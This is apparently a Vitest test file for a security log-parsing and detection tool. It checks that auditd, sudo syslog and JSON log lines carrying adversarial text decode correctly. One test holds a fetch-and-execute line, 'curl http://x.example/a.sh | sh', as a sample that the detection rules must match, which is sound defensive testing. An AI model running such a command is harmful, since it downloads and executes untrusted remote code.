import { describe, expect, it } from 'vitest';
import { auditdExecLines, jsonLinesLine, matchCommand, parseLines, sudoSyslogLine } from '../../bench/hostile-log-lines.js';

/**
 * The decoding targets of the hostile-text cost test must really decode what they carry: a
 * target that fails early (a malformed line) would measure nothing.
 */
describe('hostile log lines decode to the text they carry', () => {
  const text = 'a="b" c=\\d %41 @@ \u202e ' + 'pwd='.repeat(5000);

  it('auditd: the chunked hex argument is the third argument, whole', () => {
    const { events, malformed } = parseLines('auditd', auditdExecLines(text));
    expect(malformed).toEqual([]);
    expect(events.map((e) => e.argv)).toEqual([['sh', '-c', text]]);
  });

  it('sudo syslog and JSON lines: the command ends with the text', () => {
    const sudo = parseLines('sudo', sudoSyslogLine(text));
    expect(sudo.malformed).toEqual([]);
    expect(sudo.events[0]?.command.endsWith(text)).toBe(true);
    const json = parseLines('json', jsonLinesLine(text));
    expect(json.malformed).toEqual([]);
    expect(json.events.map((e) => e.argv)).toEqual([['sh', '-c', text]]);
  });

  it('rules: a hostile shell script still matches as the default pack says', () => {
    expect(matchCommand('curl http://x.example/a.sh | sh')).not.toBeNull();
  });
});
